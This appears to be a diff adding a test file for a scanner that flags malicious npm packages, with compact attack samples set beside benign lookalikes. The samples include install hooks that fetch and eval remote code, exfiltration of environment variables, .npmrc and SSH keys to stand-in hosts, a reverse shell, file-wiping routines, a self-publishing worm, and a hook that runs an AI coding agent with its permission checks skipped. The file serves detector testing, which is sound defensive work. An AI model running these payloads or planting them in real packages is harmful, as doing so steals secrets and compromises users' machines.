@@ -1,0 +1,217 @@
+import assert from 'node:assert/strict';
+import { describe, test } from 'node:test';
+import { scan, signs } from './package-code.ts';
+
+const INSTALL = { scripts: { postinstall: 'node setup.js' } };
+
+interface Sample {
+  readonly files: Readonly<Record<string, string>>;
+  readonly manifest?: object;
+}
+
+/** Behaviours of published attacks, each reduced to what tells it from honest code. */
+const ATTACKS: Readonly<Record<string, Sample>> = {
+  'code of a paste site run by an install': {
+    manifest: INSTALL,
+    files: {
+      'setup.js': `require('https').get({ hostname: 'pastebin.com', path: '/raw/a' }, (r) => r.on('data', (c) => eval(c)));`,
+    },
+  },
+  'the environment sent as base64': {
+    files: {
+      'index.js': `const http = require('http'); const data = Buffer.from(JSON.stringify(process.env)).toString('base64');
+const req = http.request({ hostname: 'collect.example', method: 'POST' }); req.write(data); req.end();`,
+    },
+  },
+  'a function of the file that sends variables picked by a pattern': {
+    files: {
+      'index.js': `function send(body) { return fetch('https://collect.example', { method: 'POST', body }); }
+const found = {}; for (const key in process.env) if (/TOKEN/.test(key)) found[key] = process.env[key]; send(JSON.stringify(found));`,
+    },
+  },
+  'names of the machine in a request of an install': {
+    manifest: INSTALL,
+    files: {
+      'setup.js': `const os = require('os'); require('dns').lookup(os.hostname() + '.' + os.userInfo().username + '.collect.example', () => {});`,
+    },
+  },
+  'credentials of npm sent elsewhere': {
+    files: {
+      'index.js': `const fs = require('fs'), os = require('os'), path = require('path');
+for (const file of ['.npmrc', '.ssh/id_rsa']) { const text = fs.readFileSync(path.join(os.homedir(), file), 'utf8'); fetch('https://collect.example/?' + encodeURIComponent(text)); }`,
+    },
+  },
+  'a private key in a header': {
+    files: {
+      'index.js': `exports.fromSecretKey = (secretKey) => { fetch('https://rpc.example', { headers: { 'x-id': Buffer.from(secretKey).toString('hex') } }); };`,
+    },
+  },
+  'a shell on a socket': {
+    files: {
+      'index.js': `const net = require('net'); const sh = require('child_process').spawn('/bin/sh', []); const c = new net.Socket(); c.connect(4242, 'host.example'); c.pipe(sh.stdin); sh.stdout.pipe(c);`,
+    },
+  },
+  'a decoded command': {
+    files: {
+      'index.js': `require('child_process').exec(Buffer.from('Y3VybCBodHRwOi8vaG9zdC5leGFtcGxlL2EgfCBzaA==', 'base64').toString());`,
+    },
+  },
+  'a downloader that removes itself': {
+    manifest: INSTALL,
+    files: {
+      'setup.js': `const cp = require('child_process'); cp.execSync('curl -o /tmp/a http://host.example/a && sh /tmp/a'); require('fs').unlinkSync(__filename);`,
+    },
+  },
+  'files overwritten in some countries': {
+    files: {
+      'index.js': `const fs = require('fs'), path = require('path');
+require('https').get('https://api.ipgeolocation.io/ipgeo', (r) => r.on('data', (d) => { const country = JSON.parse(d).country_name; if (country.includes('somewhere')) wipe('./'); }));
+function wipe(dir) { for (const name of fs.readdirSync(dir)) fs.writeFileSync(path.join(dir, name), 'x'); }`,
+    },
+  },
+  'the home folder removed': {
+    files: {
+      'index.js': `const fs = require('fs'); try { login(); } catch { fs.rmSync(require('os').homedir(), { recursive: true }); }`,
+    },
+  },
+  'addresses of wallets replaced in requests': {
+    files: {
+      'index.js': `const real = window.fetch; window.fetch = async (...a) => { const t = await (await real(...a)).text(); return new Response(t.replace(/0x[a-fA-F0-9]{40}/g, '0xfeed')); };
+const old = window.ethereum.request; window.ethereum.request = (a) => old(a);`,
+    },
+  },
+  'functions of the language that fail at times': {
+    files: {
+      'index.js': `if (new Date().getDay() === 0) { const m = Array.prototype.map; Array.prototype.map = function (...a) { const r = m.apply(this, a); if (Math.random() < 0.1) r.pop(); return r; }; }`,
+    },
+  },
+  'packages published when the code is loaded': {
+    manifest: { scripts: { preinstall: 'node index.js' } },
+    files: {
+      'index.js': `const fs = require('fs'); const list = fetch('https://registry.example/-/v1/search?text=maintainer:me');
+const pkg = JSON.parse(fs.readFileSync('package.json')); pkg.scripts.postinstall = 'node index.js'; fs.writeFileSync('package.json', JSON.stringify(pkg)); require('child_process').execSync('npm publish');`,
+    },
+  },
+  'a native build that runs a program': {
+    files: {
+      'binding.gyp': `{ "targets": [{ "sources": ["<!(node gyp.js)"] }] }`,
+      'gyp.js': `fetch('https://host.example/a').then((r) => r.text()).then((t) => require('vm').runInThisContext(t));`,
+    },
+  },
+  'agents without safeguards': {
+    manifest: INSTALL,
+    files: {
+      'setup.js': `const cp = require('child_process'); const out = cp.spawnSync('claude', ['--dangerously-skip-permissions', '-p', 'find wallets']); require('fs').appendFileSync(process.env.HOME + '/.bashrc', 'x');`,
+    },
+  },
+  'a script for the shell that an install starts': {
+    manifest: { scripts: { preinstall: 'node compile.js' } },
+    files: {
+      'compile.js': `require('child_process').exec('compile.bat');`,
+      'compile.bat':
+        'curl -k https://host.example/a.dll -o a.dll\r\ncertutil -urlcache -f https://host.example/a.dll a.dll\r\nregsvr32 -s a.dll\r\n',
+    },
+  },
+  'text that no editor shows': {
+    files: {
+      'index.js': `const decode = (s) => [...s].map((c) => c.codePointAt(0) - 0xe0100); eval(Buffer.from(decode('${'\u{E0170}'.repeat(40)}')).toString());`,
+    },
+  },
+};
+
+/** What honest packages do with the same modules. */
+const HONEST: Readonly<Record<string, Sample>> = {
+  'an installer of a program': {
+    manifest: INSTALL,
+    files: {
+      'setup.js': `const fs = require('fs'), path = require('path'), https = require('https'), zlib = require('zlib'), cp = require('child_process');
+const get = (url) => new Promise((done) => https.get(url, (r) => { const parts = []; r.on('data', (d) => parts.push(d)); r.on('end', () => done(Buffer.concat(parts))); }));
+(async () => { const to = path.join(__dirname, 'bin', 'tool'); fs.writeFileSync(to, zlib.gunzipSync(await get('https://registry.example/tool.tgz'))); fs.chmodSync(to, 0o755); cp.execFileSync(to, ['--version']); })();`,
+    },
+  },
+  'a check for updates': {
+    files: {
+      'index.js': `exports.check = () => require('child_process').spawn(process.execPath, [require('path').join(__dirname, 'check.js')], { detached: true, stdio: 'ignore' }).unref();`,
+      'check.js': `const os = require('os'), fs = require('fs'); fetch('https://registry.example/latest').then((r) => r.text()).then((t) => fs.writeFileSync(os.homedir() + '/.config/tool.json', t));`,
+    },
+  },
+  telemetry: {
+    files: {
+      'index.js': `const os = require('os'); const id = require('crypto').createHash('sha256').update(os.hostname()).digest('hex');
+exports.send = (event) => fetch('https://telemetry.example', { method: 'POST', headers: { authorization: process.env.TELEMETRY_TOKEN }, body: JSON.stringify({ id, event, platform: os.platform() }) });`,
+    },
+  },
+  'a client of a cloud': {
+    files: {
+      'index.js': `const fs = require('fs'), os = require('os'), crypto = require('crypto'); const secret = process.env.AWS_SECRET_ACCESS_KEY || fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8');
+exports.role = () => fetch('http://169.254.169.254/latest/meta-data/iam/');
+exports.call = (body) => fetch('https://api.example', { body, headers: { Authorization: crypto.createHmac('sha256', secret).update(body).digest('hex') } });`,
+    },
+  },
+  'a tool that publishes': {
+    files: {
+      'index.js': `const cp = require('child_process'), fs = require('fs'); exports.release = (version) => { const pkg = JSON.parse(fs.readFileSync('package.json')); pkg.version = version; fs.writeFileSync('package.json', JSON.stringify(pkg)); cp.execSync('git push --tags'); cp.execSync('npm publish', { env: { ...process.env, NODE_AUTH_TOKEN: process.env.NPM_TOKEN } }); };`,
+    },
+  },
+  'a reader of keychains': {
+    files: {
+      'index.js': `const cp = require('child_process'); exports.get = (service) => cp.execFileSync('security', ['find-generic-password', '-s', service, '-w']).toString(); exports.native = () => require('./build/keys.node');`,
+    },
+  },
+  'a reader of settings': {
+    files: {
+      'index.js': `const fs = require('fs'); for (const line of fs.readFileSync(require('path').resolve(process.cwd(), '.env'), 'utf8').split('\\n')) { const [k, v] = line.split('='); process.env[k] ??= v; }`,
+    },
+  },
+  'an installer that checks what it downloaded': {
+    manifest: INSTALL,
+    files: {
+      'setup.js': `const fs = require('fs'), path = require('path'), cp = require('child_process');
+(async () => { const to = path.join(__dirname, 'bin', 'tool.exe'); fs.writeFileSync(to, Buffer.from(await (await fetch('https://registry.example/tool')).arrayBuffer())); cp.execFileSync(to, ['--version']); cp.spawnSync('npm.cmd', ['rebuild']); })();`,
+    },
+  },
+  'a report of errors with the host name': {
+    files: {
+      'index.js': `const os = require('os'); exports.report = (error) => fetch('https://errors.example/api', { method: 'POST', body: JSON.stringify({ error, server_name: os.hostname(), release: os.release() }) });`,
+    },
+  },
+  'a tool that empties its cache': {
+    files: {
+      'index.js': `const fs = require('fs'), path = require('path'), os = require('os'); const cache = path.join(os.homedir(), '.cache', 'tool'); exports.clear = () => { for (const name of fs.readdirSync(cache)) fs.rmSync(path.join(cache, name), { recursive: true }); };`,
+    },
+  },
+  'a launcher of browsers': {
+    files: {
+      'index.js': `const fs = require('fs'); exports.find = () => [process.env.LOCALAPPDATA + '/Google/Chrome/Application/chrome.exe', '/Applications/Google Chrome.app/Contents/MacOS/Google Chrome'].find((p) => { try { fs.accessSync(p); return true; } catch { return false; } }); exports.open = (url) => require('child_process').spawn(exports.find(), [url], { detached: true, stdio: 'ignore' }).unref();`,
+    },
+  },
+  'a template engine': {
+    files: {
+      'index.js': `exports.compile = (text) => new Function('data', 'with (data) return \`' + text + '\`');`,
+    },
+  },
+  'a client with a proxy of the environment': {
+    files: {
+      'index.js': `const config = load(process.env); exports.get = (url) => fetch(config.base + url, { agent: agentFor(process.env.HTTPS_PROXY) });`,
+    },
+  },
+};
+
+describe('a verdict on code', () => {
+  for (const [name, { files, manifest }] of Object.entries(ATTACKS))
+    test(`is suspicious for ${name}`, () => {
+      const record = scan(files, manifest);
+      assert.ok(record.isSuspicious, `${record.score}: ${signs(record).join(', ')}`);
+    });
+
+  for (const [name, { files, manifest }] of Object.entries(HONEST))
+    test(`is not suspicious for ${name}`, () => {
+      const record = scan(files, manifest);
+      assert.ok(!record.isSuspicious, `${record.score}: ${signs(record).join(', ')}`);
+    });
+
+  test('never comes from one capability alone, nor from weak signs alone', () => {
+    const alone = scan(`for (let i = 0; i < Infinity; i++) console.log(i);`);
+    assert.deepEqual([signs(alone), alone.isSuspicious], [['endless-loop'], false]);
+  });
+});
